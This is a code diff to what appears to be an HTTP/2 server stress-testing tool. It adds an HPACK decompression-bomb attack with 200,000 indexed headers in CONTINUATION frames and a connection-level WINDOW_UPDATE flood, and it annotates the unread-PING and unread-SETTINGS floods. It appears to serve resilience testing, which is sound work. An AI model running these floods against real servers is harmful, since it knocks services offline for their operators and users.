@@ -51,6 +51,16 @@ def hpack_bomb_held(target):
     return lambda: flood(target, [blob])
 
 
+@attack("hpack-bomb-long", "the same with 200000 indexes, in CONTINUATION")
+def hpack_bomb_long(target):
+    def request(stream):
+        block = get(target) + (literal_indexed(b"x", b"y" * 3900) if stream == 1 else b"")
+        return headers(stream, block + indexed(62) * 200000, False)
+
+    blob = b"".join(request(stream) for stream in range(1, 101, 2))
+    return lambda: flood(target, [blob])
+
+
 @attack("hpack-bomb-small", "the same with 50 indexes in each of 100 open requests")
 def hpack_bomb_small(target):
     def request(stream):
@@ -316,7 +326,6 @@ control("settings-table-size", "SETTINGS that change the size of the table",
 control("settings-ack", "SETTINGS ACK that nobody waits for", frame(frames.SETTINGS, frames.ACK), is_short=True)
 control("ping", "PING", ping(), is_short=True)
 control("ping-ack", "PING ACK that nobody waits for", ping(True), is_short=True)
-control("window-update", "WINDOW_UPDATE of 1 on the connection", window_update(0, 1), is_short=True)
 control("window-update-stream", "WINDOW_UPDATE of 1 on an open stream", window_update(1, 1), open_post)
 control("window-update-closed", "WINDOW_UPDATE on a stream that was answered", window_update(1, 1), idle_get)
 control("priority-open", "PRIORITY on an open stream", priority(1), open_post)
@@ -334,6 +343,11 @@ control("frame-length", "a frame of 16 MB", frame(frames.DATA, 0, 1, b"x" * 6553
 control("stream-zero", "DATA on stream 0", data(0, b"x"))
 control("stream-even", "HEADERS on an even stream", headers(2, b"\x82\x86\x84"))
 control("garbage", "random bytes after the preface", os.urandom(65536))
+
+
+@attack("window-update", "WINDOW_UPDATE of 1 on the connection", is_short=True)
+def window_update_connection(target):
+    return lambda: flood(target, repeat(window_update(0, 1)), big_window=False)
 
 
 @attack("priority-idle", "PRIORITY on streams that were never opened", is_short=True)
@@ -357,11 +371,11 @@ def window_update_streams(target):
     return lambda: flood(target, blobs)
 
 
-@attack("ping-unread", "PING whose answers are never read", is_short=True)
+@attack("ping-unread", "PING whose answers are never read", is_short=True, bounded="it is cut, or its frames are not read any more")
 def ping_unread(target):
     return lambda: flood(target, repeat(ping()), reads=False)
 
 
-@attack("settings-unread", "SETTINGS whose answers are never read")
+@attack("settings-unread", "SETTINGS whose answers are never read", bounded="it is cut, or its frames are not read any more")
 def settings_unread(target):
     return lambda: flood(target, repeat(settings()), reads=False)
